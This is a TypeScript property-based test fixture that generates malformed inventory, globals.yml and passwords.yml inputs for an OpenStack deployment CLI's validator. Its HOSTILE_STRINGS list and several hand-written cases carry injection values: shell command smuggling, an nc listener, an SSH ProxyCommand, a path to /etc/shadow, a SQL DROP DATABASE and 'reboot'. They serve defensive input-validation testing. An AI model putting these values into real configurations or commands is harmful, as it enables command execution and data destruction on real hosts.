import { join } from 'node:path';
import fc from 'fast-check';
import { discoverImages } from '../../src/build/images.ts';
import { globalsSchema, type GlobalsSchemaInput } from '../../src/config/globals.ts';
import { secretKind } from '../../src/config/passwords.ts';
import { globalsInputFor } from '../../src/deploy/session.ts';
import { loadRoles } from '../../src/plan/roles.ts';
import { isGroupName, isHostAddress, isInterfaceName, isIpAddress, isPort, isUserName } from '../../src/util/values.ts';

/*
 * A corpus of malformed inputs, each of which the CLI must refuse with exit
 * code 2, naming the file (and the line and key where there is one), before
 * it changes anything. Unit tests run all of them in-process; an e2e test can
 * write a sample into a scratch config directory and run `deploy`.
 */

export type BadInputTarget = 'inventory' | 'globals' | 'passwords' | 'config-override' | 'template-override' | 'role' | 'image-regex' | 'profile';

/** Targets `deploy` reads from a config directory and an inventory; the rest are build inputs or the project's roles/. */
export const DEPLOY_TARGETS: readonly BadInputTarget[] = ['inventory', 'globals', 'passwords', 'config-override'];

export interface BadInput {
  name: string;
  target: BadInputTarget;
  /**
   * Files relative to a scratch directory. Deploy targets: `globals.yml`,
   * `passwords.yml` (whole files, made-up values), `config/...` (overrides
   * for keystone.conf on host localhost), an inventory with `host_vars/` and
   * `group_vars/`; the rest of a valid deployment is the caller's. Build
   * targets: `override.yml` (--template-override), `profiles.yml`
   * (--profiles-file, --profile mine); roles: `roles/<service>/role.yml`.
   */
  files: Record<string, string>;
  /** The inventory among `files`, for -i. */
  inventory?: string;
  /** build's positional regexes. */
  regexes?: string[];
  /** Refused by the deploy command's checks after globals.yml is read, not by loadGlobals: run it through main(). */
  cliOnly?: boolean;
  /** What the error must name: `file` is relative to the scratch directory; `mentions` is text it must quote. */
  expect: { file?: string; line?: number; key?: string; mentions?: string };
}

const PROJECT_ROOT = join(import.meta.dirname, '..', '..');

/** The real roles and images: keys, password names and image names come from them. */
const ROLES = loadRoles(join(PROJECT_ROOT, 'roles'));
const IMAGE_NAMES = [...discoverImages([join(PROJECT_ROOT, 'images')]).keys()].sort();
export const GLOBALS_SCHEMA_INPUT: GlobalsSchemaInput = globalsInputFor(ROLES);
const SCHEMA = globalsSchema(GLOBALS_SCHEMA_INPUT);
/** The passwords of the roles enabled by default: what a deploy with the baseline globals.yml requires. */
export const REQUIRED_PASSWORDS = [...new Set(ROLES.filter((r) => r.enabledByDefault).flatMap((r) => r.passwords))].sort();
/** Every role's, as genpwd writes them: a cloud that enables more roles (the all-in-one's Ceph) finds its own too. */
const ALL_PASSWORDS = [...new Set(ROLES.flatMap((r) => r.passwords))].sort();

/** A good value for a passwords.yml key: `plain` where any password will do, one of the key's kind (a UUID, a cephx key) otherwise. */
export function validPassword(key: string, plain: string): string {
  const kind = secretKind(key);
  return kind.valid(plain) ? plain : kind.generate();
}

const HOSTILE_STRINGS = [
  '127.0.0.1; touch /tmp/pwned #',
  '$(touch /tmp/pwned)',
  '`touch /tmp/pwned`',
  '127.0.0.1 && reboot',
  '198.51.100.1|nc -l 4444',
  '-oProxyCommand=sh -c id',
  '../../../../etc/shadow',
  "x'; DROP DATABASE keystone; --",
  '{{constructor.constructor("return process")()}}',
  'eth0 up',
  'a'.repeat(300),
  '%0a[DEFAULT]',
  'ü',
  '\u202eeth0',
  '*',
  '',
];

// --- encoding -------------------------------------------------------------

/** A YAML flow value: JSON, with everything outside printable ASCII escaped so the YAML stays well-formed. */
function yamlValue(value: unknown): string {
  return JSON.stringify(value).replace(/[^\x20-\x7e]/g, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`);
}

/** A word for an Ansible INI host line, quoted as Python's shlex reads it. */
function shlexQuote(value: string): string {
  return `'${value.replace(/'/g, `'"'"'`)}'`;
}

// --- value generators -----------------------------------------------------

const SHELL_BITS = [';', '$(', '`', '|', '&&', ' ', '#', "'", '"', '\\', '>', '*', '..', '/', '\t', '\n', '\u0000', '!', '{', '%', '=', ',', '~', 'ü'];

/** Strings built to break out of a shell word, an INI line, a path or a URL, plus arbitrary ones. */
const hostileText: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...HOSTILE_STRINGS),
  fc
    .tuple(fc.constantFrom('127.0.0.1', '198.18.0.1', 'eth0', 'node1', 'root', ''), fc.constantFrom(...SHELL_BITS), fc.string({ maxLength: 12 }))
    .map(([head, bit, tail]) => head + bit + tail),
  fc.string({ maxLength: 40, unit: 'binary' }),
);

/** Values of the wrong YAML type for a string setting. */
const nonScalar: fc.Arbitrary<unknown> = fc.oneof(fc.array(fc.string({ maxLength: 4 }), { maxLength: 2 }), fc.dictionary(fc.constantFrom('a', 'b'), fc.integer(), { maxKeys: 2 }));

/** A text an INI line can hold that the reader keeps as it is (no line break, not a number or a quoted literal). */
function iniSafe(value: string): boolean {
  return !/[\n\r]/.test(value) && !/^(['"]).*\1$/s.test(value) && !/^-?\d+(\.\d+)?$/.test(value) && value !== 'True' && value !== 'False';
}

const portText = (value: string): unknown => (/^\d+$/.test(value) ? Number(value) : value);
const BECOME_WORDS = ['true', 'false', 'yes', 'no', '1', '0'];

/** Invalid text for each typed inventory variable (what an INI line can carry). */
const INVALID_VAR_TEXT: Record<string, fc.Arbitrary<string>> = {
  ansible_host: hostileText.filter((v) => !isHostAddress(v)),
  ansible_port: fc
    .oneof(fc.integer({ min: 65536 }).map(String), fc.constantFrom('0', '-1', '22.5', 'ssh', '22;id', '0x16', '1e3', '2 2'), hostileText)
    .filter((v) => !isPort(portText(v))),
  ansible_user: hostileText.filter((v) => !isUserName(v)),
  ansible_connection: fc.oneof(fc.constantFrom('paramiko', 'winrm', 'docker', 'SSH', 'Local', 'smart', 'local;id'), hostileText).filter((v) => v !== 'local' && v !== 'ssh'),
  ansible_become: fc.oneof(fc.constantFrom('maybe', '2', '-1', 'on', 'off', 'y', 'sudo', 'yess'), hostileText).filter((v) => !BECOME_WORDS.includes(v.toLowerCase())),
  network_interface: fc.oneof(hostileText, fc.integer({ min: 16, max: 40 }).map((n) => 'e'.repeat(n))).filter((v) => !isInterfaceName(v)),
  api_interface: hostileText.filter((v) => !isInterfaceName(v)),
  neutron_external_interface: hostileText.filter((v) => !isInterfaceName(v)),
  tunnel_interface: hostileText.filter((v) => !isInterfaceName(v)),
  api_address: fc.oneof(fc.constantFrom('control01', 'localhost', '198.51.100.256', '::g', '198.51.100.1/24'), hostileText).filter((v) => !isIpAddress(v)),
  storage_address: hostileText.filter((v) => !isIpAddress(v)),
};

/** Invalid YAML values (any type) for each typed inventory variable. */
const INVALID_VAR_VALUE: Record<string, fc.Arbitrary<unknown>> = Object.fromEntries(
  Object.entries(INVALID_VAR_TEXT).map(([name, text]) => {
    const wrongType: fc.Arbitrary<unknown> =
      name === 'ansible_port'
        ? fc.oneof(fc.integer({ max: 0 }), fc.integer({ min: 65536 }), fc.double({ min: 1.01, max: 65534.99, noNaN: true }).filter((n) => !Number.isInteger(n)), fc.boolean(), nonScalar)
        : name === 'ansible_become'
          ? fc.oneof(fc.integer({ min: 2 }), nonScalar)
          : fc.oneof(fc.boolean(), nonScalar);
    return [name, fc.oneof(text, wrongType)];
  }),
);

/** Comment and blank lines put before the bad line, so line numbers vary. */
const iniPrefix = fc.array(fc.constantFrom('# a comment', '', '; another comment', '   '), { maxLength: 3 });
const yamlPrefix = fc.array(fc.constantFrom('# a comment', ''), { maxLength: 3 });
const varName = fc.constantFrom(...Object.keys(INVALID_VAR_TEXT));

// --- inventories ----------------------------------------------------------

const inventoryArbitraries: fc.Arbitrary<BadInput>[] = [
  // A typed variable on a host line or in a [group:vars] section.
  fc
    .record({ prefix: iniPrefix, name: varName, inSection: fc.boolean() })
    .chain(({ prefix, name, inSection }) =>
      INVALID_VAR_TEXT[name]!.filter((v) => iniSafe(v) && (!inSection || v === v.trim())).map((value): BadInput => {
        const lines = inSection ? [...prefix, '[control]', 'node1', '[control:vars]', `${name}=${value}`] : [...prefix, '[control]', `node1 ${name}=${shlexQuote(value)}`];
        return {
          name: `inventory.ini: ${inSection ? '[control:vars]' : 'host line'} ${name}=${JSON.stringify(value)}`,
          target: 'inventory',
          files: { 'inventory.ini': `${lines.join('\n')}\n` },
          inventory: 'inventory.ini',
          expect: { file: 'inventory.ini', line: lines.length, key: name },
        };
      }),
    ),
  // A hostile host name.
  fc.record({ prefix: iniPrefix, host: hostileText.filter((v) => iniSafe(v) && !/[[\]:]/.test(v) && !/^[A-Za-z0-9.-]+$/.test(v)) }).map(({ prefix, host }): BadInput => {
    const lines = [...prefix, '[compute]', `${shlexQuote(host)} ansible_host=198.18.0.21`];
    return {
      name: `inventory.ini: host name ${JSON.stringify(host)}`,
      target: 'inventory',
      files: { 'inventory.ini': `${lines.join('\n')}\n` },
      inventory: 'inventory.ini',
      expect: { file: 'inventory.ini', line: lines.length, key: 'inventory_hostname' },
    };
  }),
  // A typed host setting in our YAML format.
  fc
    .constantFrom(
      ['address', 'ansible_host'],
      ['port', 'ansible_port'],
      ['user', 'ansible_user'],
      ['connection', 'ansible_connection'],
      ['api_address', 'api_address'],
      ['become', 'ansible_become'],
    )
    .chain(([field, variable]) =>
      fc.record({ prefix: yamlPrefix, value: INVALID_VAR_VALUE[variable]!.filter((v) => !(field === 'address' && typeof v === 'number')) }).map(({ prefix, value }): BadInput => {
        const lines = [...prefix, 'hosts:', '  node1:', `    ${field}: ${yamlValue(value)}`, 'groups:', '  control: [node1]'];
        return {
          name: `inventory.yml: hosts.node1.${field}: ${yamlValue(value)}`,
          target: 'inventory',
          files: { 'inventory.yml': `${lines.join('\n')}\n` },
          inventory: 'inventory.yml',
          expect: { file: 'inventory.yml', line: prefix.length + 3, key: `hosts.node1.${field}` },
        };
      }),
    ),
  // A typed variable in a host's vars, in group_vars of the YAML file, or in a host_vars/ or group_vars/ file.
  fc
    .record({ prefix: yamlPrefix, name: varName, where: fc.constantFrom('vars', 'group_vars', 'host_vars/node1.yml', 'group_vars/control.yaml', 'group_vars/all') })
    .chain(({ prefix, name, where }) =>
      INVALID_VAR_VALUE[name]!.map((value): BadInput => {
        const assignment = `${name}: ${yamlValue(value)}`;
        if (where === 'vars' || where === 'group_vars') {
          const lines =
            where === 'vars'
              ? [...prefix, 'hosts:', '  node1:', '    vars:', `      ${assignment}`, 'groups:', '  control: [node1]']
              : [...prefix, 'hosts:', '  node1: {}', 'groups:', '  control: [node1]', 'group_vars:', '  control:', `    ${assignment}`];
          return {
            name: `inventory.yml: ${where} ${assignment}`,
            target: 'inventory',
            files: { 'inventory.yml': `${lines.join('\n')}\n` },
            inventory: 'inventory.yml',
            expect: { file: 'inventory.yml', line: lines.indexOf(`${where === 'vars' ? '      ' : '    '}${assignment}`) + 1, key: where === 'vars' ? `hosts.node1.vars.${name}` : `group_vars.control.${name}` },
          };
        }
        const lines = [...prefix, 'site: lab', assignment];
        return {
          name: `${where}: ${assignment}`,
          target: 'inventory',
          files: { 'inventory.ini': '[control]\nnode1 ansible_host=198.18.0.11\n', [where]: `${lines.join('\n')}\n` },
          inventory: 'inventory.ini',
          expect: { file: where, line: lines.length, key: name },
        };
      }),
    ),
  // A variable name templates could not use.
  fc
    .record({ prefix: yamlPrefix, name: fc.oneof(fc.string({ maxLength: 12 }), fc.constantFrom('1st', 'a-b', 'a.b', 'a b', '__proto__', '$x')) })
    .filter(({ name }) => !/^[A-Za-z_][A-Za-z0-9_]*$/.test(name) || name === '__proto__')
    .map(({ prefix, name }): BadInput => {
      const lines = [...prefix, 'hosts:', '  node1:', '    vars:', `      ${yamlValue(name)}: 1`, 'groups:', '  control: [node1]'];
      return {
        name: `inventory.yml: variable name ${yamlValue(name)}`,
        target: 'inventory',
        files: { 'inventory.yml': `${lines.join('\n')}\n` },
        inventory: 'inventory.yml',
        expect: { file: 'inventory.yml', line: prefix.length + 4, key: `hosts.node1.vars.${name}` },
      };
    }),
  // A malformed host range.
  fc
    .record({
      prefix: iniPrefix,
      range: fc.oneof(
        fc.tuple(fc.integer({ min: 2, max: 500 }), fc.integer({ min: 0, max: 1 })).map(([a, b]) => `[${a}:${b}]`),
        fc.integer({ min: 10, max: 99 }).map((n) => `[0${n}:${n}00]`),
        fc.constantFrom('[1:]', '[:]', '[1:2:0]', '[1:2:-1]', '[a:9]', '[z:a]', '[1:2:3:4]', '[1-3]', '[1:3', 'x]', '[aa:bb]', '[0:99999999]', '[0:200][0:200]'),
      ),
    })
    .map(({ prefix, range }): BadInput => {
      const lines = [...prefix, '[compute]', `compute${range} ansible_user=kolla`];
      return {
        name: `inventory.ini: range compute${range}`,
        target: 'inventory',
        files: { 'inventory.ini': `${lines.join('\n')}\n` },
        inventory: 'inventory.ini',
        expect: { file: 'inventory.ini', line: lines.length, key: 'inventory_hostname' },
      };
    }),
];

function inventoryCase(name: string, text: string, expect: BadInput['expect'], beside: Record<string, string> = {}): BadInput {
  const file = text.trimStart().startsWith('[') ? 'inventory.ini' : 'inventory.yml';
  return { name: `${file}: ${name}`, target: 'inventory', files: { [file]: text, ...beside }, inventory: file, expect: { file, ...expect } };
}

const HAND_WRITTEN_INVENTORIES: BadInput[] = [
  inventoryCase('hostile ansible_host on a host line', '[control]\nnode1 ansible_host=127.0.0.1; touch /tmp/pwned #\n', { line: 2, key: 'ansible_host' }),
  inventoryCase('hostile ansible_host, quoted', '[control]\nnode1 ansible_host="127.0.0.1; touch /tmp/pwned #"\n', { line: 2, key: 'ansible_host' }),
  inventoryCase('hostile ansible_host in [all:vars]', '[control]\nnode1\n\n[all:vars]\nansible_host=127.0.0.1; touch /tmp/pwned #\n', { line: 5, key: 'ansible_host' }),
  inventoryCase('a word that is not key=value', '[control]\nnode1 ansible_host=198.18.0.1 touch\n', { line: 2 }),
  inventoryCase('an unclosed quote', "[control]\nnode1 ansible_host='198.18.0.1\n", { line: 2 }),
  inventoryCase('a trailing backslash', '[control]\nnode1 ansible_host=198.18.0.1 \\\n', { line: 2 }),
  inventoryCase('a variable set twice on one line', '[control]\nnode1 ansible_port=22 ansible_port=2222\n', { line: 2, key: 'ansible_port' }),
  inventoryCase('a variable set twice in one vars section', '[control]\nnode1\n[control:vars]\nx=1\nx=2\n', { line: 5, key: 'x' }),
  inventoryCase('a vars line without =', '[control]\nnode1\n[control:vars]\nnetwork_interface\n', { line: 4 }),
  inventoryCase('a section header with a space', '[control ]\nnode1\n', { line: 1 }),
  inventoryCase('a section header not closed', '[control]\nnode1\n[compute\nnode2\n', { line: 3 }),
  inventoryCase('an unknown section type', '[control:hostvars]\nnode1\n', { line: 1 }),
  inventoryCase('a group name with a slash', '[control]\nnode1\n[a/b]\nnode2\n', { line: 3 }),
  inventoryCase('a child group never defined', '[control]\nnode1\n[nova:children]\ncontrol\ncompute\n', { line: 5, key: 'compute' }),
  inventoryCase('a child line that is not a group name', '[control]\nnode1\n[nova:children]\ncontrol extra\n', { line: 4 }),
  inventoryCase('vars for a group never defined', '[control]\nnode1\n[compute:vars]\nnetwork_interface=eth1\n', { line: 3, key: 'compute' }),
  inventoryCase('a group its own child', '[control]\nnode1\n[control:children]\ncontrol\n', { line: 4, key: 'control' }),
  inventoryCase('all as a child', '[control]\nnode1\n[x:children]\nall\n', { line: 4, key: 'all' }),
  inventoryCase('groups in a cycle', '[control]\nnode1\n[a:children]\nb\n[b:children]\na\n', { key: 'a' }),
  inventoryCase('no host at all', '[control]\n\n[compute]\n', {}),
  inventoryCase('a port after the host name out of range', '[control]\nnode1:70000\n', { line: 2, key: 'ansible_port' }),
  inventoryCase('a port after the host name of 0', '[control]\nnode1:0\n', { line: 2, key: 'ansible_port' }),
  inventoryCase('an empty key file', '[control]\nnode1 ansible_ssh_private_key_file=""\n', { line: 2, key: 'ansible_ssh_private_key_file' }),
  inventoryCase('ansible_become=True in a vars section is fine but sudo is not', '[control]\nnode1\n[control:vars]\nansible_become=True\nansible_become=sudo\n', { line: 5, key: 'ansible_become' }),
  inventoryCase('YAML: not a mapping', '- node1\n- node2\n', {}),
  inventoryCase('YAML: a scalar', 'node1\n', {}),
  inventoryCase('YAML: empty', '', {}),
  inventoryCase('YAML: no hosts', 'groups:\n  control: []\n', { key: 'hosts' }),
  inventoryCase('YAML: hosts a list', 'hosts: [node1]\ngroups: {}\n', { line: 1, key: 'hosts' }),
  inventoryCase('YAML: an unknown top-level key', 'hosts:\n  node1: {}\ngroups: {}\nhost_vars: {}\n', { line: 4, key: 'host_vars' }),
  inventoryCase('YAML: an unknown host key', 'hosts:\n  node1:\n    ansible_host: 198.18.0.1\ngroups: {}\n', { line: 3, key: 'hosts.node1.ansible_host' }),
  inventoryCase('YAML: a host that is a list', 'hosts:\n  node1: [a]\ngroups: {}\n', { line: 2, key: 'hosts.node1' }),
  inventoryCase('YAML: a hostile host name', 'hosts:\n  "node1; reboot": {}\ngroups: {}\n', { line: 2, key: 'hosts.node1; reboot' }),
  inventoryCase('YAML: groups a list', 'hosts:\n  node1: {}\ngroups: [control]\n', { line: 3, key: 'groups' }),
  inventoryCase('YAML: a group that is a string', 'hosts:\n  node1: {}\ngroups:\n  control: node1\n', { line: 4, key: 'groups.control' }),
  inventoryCase('YAML: a group member not a host', 'hosts:\n  node1: {}\ngroups:\n  control: [node1, node9]\n', { line: 4, key: 'groups.control.1' }),
  inventoryCase('YAML: a group member that is a number', 'hosts:\n  node1: {}\ngroups:\n  control: [1]\n', { line: 4, key: 'groups.control' }),
  inventoryCase('YAML: a hostile group name', 'hosts:\n  node1: {}\ngroups:\n  "ctl;id": [node1]\n', { line: 4, key: 'groups.ctl;id' }),
  inventoryCase('YAML: a group named all', 'hosts:\n  node1: {}\ngroups:\n  all: [node1]\n', { line: 4, key: 'groups.all' }),
  inventoryCase('YAML: group_vars for a group not defined', 'hosts:\n  node1: {}\ngroups:\n  control: [node1]\ngroup_vars:\n  compute: {x: 1}\n', { line: 6, key: 'group_vars.compute' }),
  inventoryCase('YAML: group_vars a list', 'hosts:\n  node1: {}\ngroups: {}\ngroup_vars: [a]\n', { line: 4, key: 'group_vars' }),
  inventoryCase('YAML: vars a list', 'hosts:\n  node1:\n    vars: [a]\ngroups: {}\n', { line: 3, key: 'hosts.node1.vars' }),
  inventoryCase('YAML: a connection setting given twice', 'hosts:\n  node1:\n    user: root\n    vars: {ansible_user: kolla}\ngroups: {}\n', { line: 4, key: 'hosts.node1.vars.ansible_user' }),
  inventoryCase('YAML: a service moved to a missing group', 'hosts:\n  node1: {}\ngroups:\n  control: [node1]\nservices:\n  nova_compute: gpu\n', { line: 6, key: 'services.nova_compute' }),
  inventoryCase('YAML: a service moved to a list', 'hosts:\n  node1: {}\ngroups:\n  control: [node1]\nservices:\n  nova_compute: [control]\n', { line: 6, key: 'services.nova_compute' }),
  inventoryCase('YAML: services a list', 'hosts:\n  node1: {}\ngroups: {}\nservices: [a]\n', { line: 4, key: 'services' }),
  inventoryCase('YAML: a value with a line break', 'hosts:\n  node1:\n    vars: {motd: "a\\nb"}\ngroups: {}\n', { line: 3, key: 'hosts.node1.vars.motd' }),
  inventoryCase('YAML: a duplicated host', 'hosts:\n  node1: {}\n  node1: {}\ngroups: {}\n', { line: 3 }),
  inventoryCase('YAML: a tab in the indentation', 'hosts:\n\tnode1: {}\ngroups: {}\n', { line: 2 }),
  inventoryCase('YAML: an unclosed flow mapping', 'hosts:\n  node1: {connection: local\ngroups: {}\n', {}),
  inventoryCase('YAML: an unknown alias', 'hosts:\n  node1: *base\ngroups: {}\n', { line: 2 }),
  inventoryCase('YAML: two documents', 'hosts:\n  node1: {}\ngroups: {}\n---\nhosts: {}\n', {}),
  inventoryCase('YAML: a NUL byte', 'hosts:\n  node1: {}\u0000\ngroups: {}\n', {}),
  inventoryCase('YAML: an unsafe tag', 'hosts:\n  node1: !!js/function "function () {}"\ngroups: {}\n', { line: 2 }),
  inventoryCase('host_vars/ file not a mapping', '[control]\nnode1\n', { file: 'host_vars/node1.yml' }, { 'host_vars/node1.yml': '- a\n' }),
  inventoryCase('host_vars/ file with bad YAML', '[control]\nnode1\n', { file: 'host_vars/node1' }, { 'host_vars/node1': 'a: [\n' }),
  inventoryCase('group_vars/ directory file with a bad value', '[control]\nnode1\n', { file: 'group_vars/control/net.yml', line: 2, key: 'network_interface' }, { 'group_vars/control/net.yml': '\nnetwork_interface: "eth0 up"\n' }),
  inventoryCase('group_vars/all with a nested value', '[control]\nnode1\n', { file: 'group_vars/all.yml', line: 1, key: 'x' }, { 'group_vars/all.yml': 'x:\n  y: 1\n' }),
];

// --- globals.yml ----------------------------------------------------------

const globalsKeys = (test: (spec: (typeof SCHEMA)[string]) => boolean): string[] => Object.keys(SCHEMA).filter((k) => test(SCHEMA[k]!));
const BOOLEAN_KEYS = globalsKeys((s) => s.kind === 'boolean');
const NUMBER_KEYS = globalsKeys((s) => s.kind === 'number');
const CHOICE_KEYS = globalsKeys((s) => s.choices !== undefined);
const FORMAT_KEYS = globalsKeys((s) => s.format !== undefined);
const STRING_KEYS = globalsKeys((s) => s.kind === 'string');
/** No format a globals.yml string may have (address, interface, path, tag, name, registry) allows any of these. */
const FORBIDDEN_IN_FORMATS = /[;$`|&'"<>*!(){}\s\\#%,~]/;
const GLOBALS_PREFIX = fc.uniqueArray(fc.constantFrom('kolla_base_distro: debian', 'openstack_release: zed', 'config_strategy: COPY_ALWAYS', '# a comment', ''), { maxLength: 3 });

function globalsCase(name: string, prefix: string[], key: string, valueText: string): BadInput {
  const lines = [...prefix.filter((line) => !line.startsWith(`${key}:`)), `${key}: ${valueText}`];
  return { name: `globals.yml: ${name}`, target: 'globals', files: { 'globals.yml': `${lines.join('\n')}\n` }, expect: { file: 'globals.yml', line: lines.length, key } };
}

const globalsArbitraries: fc.Arbitrary<BadInput>[] = [
  // A key no schema has: random, or a real key with one letter changed.
  fc
    .record({
      prefix: GLOBALS_PREFIX,
      key: fc.oneof(
        fc.stringMatching(/^[a-z][a-z0-9_]{2,30}$/),
        fc.tuple(fc.constantFrom(...Object.keys(SCHEMA)), fc.nat(), fc.constantFrom('x', 'q', '_', '1')).map(([k, at, c]) => k.slice(0, at % k.length) + c + k.slice((at % k.length) + 1)),
      ),
    })
    .filter(({ key }) => !Object.hasOwn(SCHEMA, key) && !(key in Object.prototype))
    .map(({ prefix, key }) => globalsCase(`unknown key ${key}`, prefix, key, 'value')),
  fc
    .record({ prefix: GLOBALS_PREFIX, key: fc.constantFrom(...BOOLEAN_KEYS), value: fc.oneof(hostileText.filter((v) => v !== 'yes' && v !== 'no'), fc.integer(), nonScalar) })
    .map(({ prefix, key, value }) => globalsCase(`${key} not a boolean`, prefix, key, yamlValue(value))),
  fc
    .record({ prefix: GLOBALS_PREFIX, key: fc.constantFrom(...NUMBER_KEYS), value: fc.oneof(hostileText, fc.boolean(), nonScalar) })
    .map(({ prefix, key, value }) => globalsCase(`${key} not a number`, prefix, key, yamlValue(value))),
  fc
    .record({ prefix: GLOBALS_PREFIX, key: fc.constantFrom(...CHOICE_KEYS), value: hostileText })
    .filter(({ key, value }) => !SCHEMA[key]!.choices!.includes(value))
    .map(({ prefix, key, value }) => globalsCase(`${key} not one of its choices`, prefix, key, yamlValue(value))),
  fc
    .record({ prefix: GLOBALS_PREFIX, key: fc.constantFrom(...FORMAT_KEYS), value: hostileText.filter((v) => FORBIDDEN_IN_FORMATS.test(v)) })
    .map(({ prefix, key, value }) => globalsCase(`${key} malformed`, prefix, key, yamlValue(value))),
  fc
    .record({ prefix: GLOBALS_PREFIX, key: fc.constantFrom(...STRING_KEYS), value: fc.oneof(fc.boolean(), nonScalar) })
    .map(({ prefix, key, value }) => globalsCase(`${key} not a string`, prefix, key, yamlValue(value))),
];

function globalsText(name: string, text: string, expect: Omit<BadInput['expect'], 'file'>, cliOnly = false): BadInput {
  return { name: `globals.yml: ${name}`, target: 'globals', files: { 'globals.yml': text }, ...(cliOnly ? { cliOnly } : {}), expect: { file: 'globals.yml', ...expect } };
}

const HAND_WRITTEN_GLOBALS: BadInput[] = [
  globalsText('a typo of a known key', 'kolla_internal_vip_address: 127.0.0.1\nnova_compute_virt_tpye: qemu\n', { line: 2, key: 'nova_compute_virt_tpye' }),
  globalsText('a hostile VIP', 'kolla_internal_vip_address: "127.0.0.1; touch /tmp/pwned #"\n', { line: 1, key: 'kolla_internal_vip_address' }),
  globalsText('a host name as VIP', 'kolla_internal_vip_address: controller\n', { line: 1, key: 'kolla_internal_vip_address' }),
  globalsText('an interface with a slash', 'network_interface: eth0/../../x\n', { line: 1, key: 'network_interface' }),
  globalsText('a registry with a shell', 'docker_registry: "r.example:5000 && id"\n', { line: 1, key: 'docker_registry' }),
  globalsText('a registry port out of range', 'docker_registry: r.example:99999\n', { line: 1, key: 'docker_registry' }),
  globalsText('a relative node_config_directory', 'node_config_directory: etc/kolla\n', { line: 1, key: 'node_config_directory' }),
  globalsText('node_config_directory with ..', 'node_config_directory: /etc/../root\n', { line: 1, key: 'node_config_directory' }),
  globalsText('a tag with a space', 'openstack_tag: "zed 2"\n', { line: 1, key: 'openstack_tag' }),
  globalsText('enable_keystone maybe', 'enable_keystone: maybe\n', { line: 1, key: 'enable_keystone' }),
  globalsText('health_timeout a string', 'health_timeout: soon\n', { line: 1, key: 'health_timeout' }),
  globalsText('config_strategy out of its choices', '\nconfig_strategy: COPY_SOMETIMES\n', { line: 2, key: 'config_strategy' }),
  globalsText('a list', '- kolla_internal_vip_address\n', {}),
  globalsText('a scalar', 'kolla\n', {}),
  globalsText('a tenant network type neutron here cannot make', '\nneutron_tenant_network_types: vxlan,gre\n', { line: 2, key: 'neutron_tenant_network_types' }),
  globalsText('a tunnel interface with a space', 'tunnel_interface: "eth0 up"\n', { line: 1, key: 'tunnel_interface' }),
  globalsText('a duplicated key', 'network_interface: eth0\nnetwork_interface: eth1\n', { line: 2 }),
  globalsText('a tab in the indentation', 'docker_registry:\n\t127.0.0.1:4000\n', { line: 2 }),
  globalsText('an unclosed quote', 'kolla_internal_vip_address: "127.0.0.1\n', {}),
  globalsText('an unclosed flow sequence', 'kolla_internal_vip_address: [127.0.0.1\n', {}),
  globalsText('a merge key', 'base: &b {a: 1}\n<<: *b\n', { line: 1, key: 'base' }),
  globalsText('an unknown key named like an Object method', 'constructor: x\n', { line: 1, key: 'constructor' }),
  globalsText('an unknown key named __proto__', '__proto__: x\n', { line: 1, key: '__proto__' }),
  globalsText('a negative health_timeout', 'health_timeout: -5\n', { line: 1, key: 'health_timeout' }),
  globalsText('zero service workers', 'openstack_service_workers: 0\n', { line: 1, key: 'openstack_service_workers' }),
  globalsText('node_custom_config with a line break', 'node_custom_config: "/etc/kolla/config\\n[DEFAULT]"\n', { line: 1, key: 'node_custom_config' }),
  globalsText('kolla_internal_vip_address missing', 'network_interface: lo\nneutron_external_interface: kolla-ext0\n', { key: 'kolla_internal_vip_address' }, true),
  globalsText('neutron enabled without neutron_external_interface', 'kolla_internal_vip_address: 127.0.0.1\nnetwork_interface: lo\n', { key: 'neutron_external_interface' }, true),
];

// --- passwords.yml --------------------------------------------------------

function passwordsFile(bad: { key: string; text: string | null }): { text: string; line?: number } {
  const lines: string[] = ['# passwords', ''];
  let line: number | undefined;
  ALL_PASSWORDS.forEach((key, index) => {
    if (key !== bad.key) lines.push(`${key}: ${validPassword(key, `password-${index}-abcdef`)}`);
    else if (bad.text !== null) {
      lines.push(`${key}: ${bad.text}`);
      line = lines.length;
    }
  });
  return { text: `${lines.join('\n')}\n`, ...(line !== undefined ? { line } : {}) };
}

function passwordsCase(key: string, value: string | null): BadInput {
  const { text, line } = passwordsFile({ key, text: value });
  return {
    name: `passwords.yml: ${key} ${value === null ? 'missing' : `= ${value}`}`,
    target: 'passwords',
    files: { 'passwords.yml': text },
    expect: { file: 'passwords.yml', ...(line !== undefined ? { line } : {}), key },
  };
}

const PASSWORD_KEY = fc.constantFrom(...REQUIRED_PASSWORDS);
const passwordsArbitraries: fc.Arbitrary<BadInput>[] = [
  // Missing, empty, or not a string.
  fc
    .record({ key: PASSWORD_KEY, value: fc.constantFrom(null, '', '~', 'null', '""', '[]', '{}', '[a, b]', '{a: 1}', 'true', 'false') })
    .map(({ key, value }) => passwordsCase(key, value)),
  // A control character, which would end the config line the password lands on.
  fc
    .record({
      key: PASSWORD_KEY,
      value: fc.oneof(
        fc.constantFrom('"a\\nb"', '"a\\tb"', '"\\u0000x"', '"x\\ry"', '"\\e[31m"'),
        fc.string({ minLength: 1, maxLength: 20, unit: 'binary' }).filter((v) => /[\x00-\x1f\x7f]/.test(v)).map(yamlValue),
      ),
    })
    .map(({ key, value }) => passwordsCase(key, value)),
];

/** Keys whose value has a kind (a UUID, a cephx key): a plain password there is refused too. */
const TYPED_PASSWORD_CASES: BadInput[] = REQUIRED_PASSWORDS.filter((key) => !secretKind(key).valid('password-abcdef')).map((key) => ({
  ...passwordsCase(key, 'password-abcdef'),
  name: `passwords.yml: ${key} not ${secretKind(key).expected}`,
}));

const HAND_WRITTEN_PASSWORDS: BadInput[] = [
  ...TYPED_PASSWORD_CASES,
  { name: 'passwords.yml: a list', target: 'passwords', files: { 'passwords.yml': '- a\n- b\n' }, expect: { file: 'passwords.yml' } },
  { name: 'passwords.yml: a scalar', target: 'passwords', files: { 'passwords.yml': 'secret\n' }, expect: { file: 'passwords.yml' } },
  { name: 'passwords.yml: empty', target: 'passwords', files: { 'passwords.yml': '' }, expect: { file: 'passwords.yml' } },
  { name: 'passwords.yml: a duplicated key', target: 'passwords', files: { 'passwords.yml': `${passwordsFile({ key: '', text: null }).text}${REQUIRED_PASSWORDS[0]}: again\n` }, expect: { file: 'passwords.yml', line: ALL_PASSWORDS.length + 3 } },
  { name: 'passwords.yml: bad indentation', target: 'passwords', files: { 'passwords.yml': 'a: 1\n  b: 2\n' }, expect: { file: 'passwords.yml', line: 2 } },
];

// --- config/ overrides ----------------------------------------------------

/** Where an override of keystone.conf on host localhost may stand, broadest first. */
